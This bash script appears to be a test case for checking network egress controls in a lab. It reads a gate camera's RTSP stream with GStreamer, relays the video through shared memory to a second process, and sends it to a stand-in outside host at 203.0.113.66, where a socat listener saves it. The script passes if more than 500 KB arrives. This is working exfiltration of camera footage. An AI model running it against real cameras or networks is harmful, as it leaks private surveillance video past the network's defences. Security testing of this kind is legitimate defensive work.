#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,direct-pull half=report tool=gst-launch-1.0 camera=10.20.0.11 far=out ready=out:9101 seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# GStreamer reads gate and leaves the picture in shared memory; another one takes it from there and sends it outside.
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9101,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
setsid timeout 38 gst-launch-1.0 -q rtspsrc location=rtsp://gate.cam.lan/Streaming/Channels/101 protocols=tcp ! rtph264depay ! h264parse config-interval=1 ! video/x-h264,stream-format=byte-stream,alignment=au ! shmsink socket-path="$LAB/shm" wait-for-connection=false shm-size=4000000 2>/dev/null &
sleep 3; setsid timeout 32 gst-launch-1.0 -q shmsrc socket-path="$LAB/shm" ! tcpclientsink host=203.0.113.66 port=9101 2>/dev/null
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
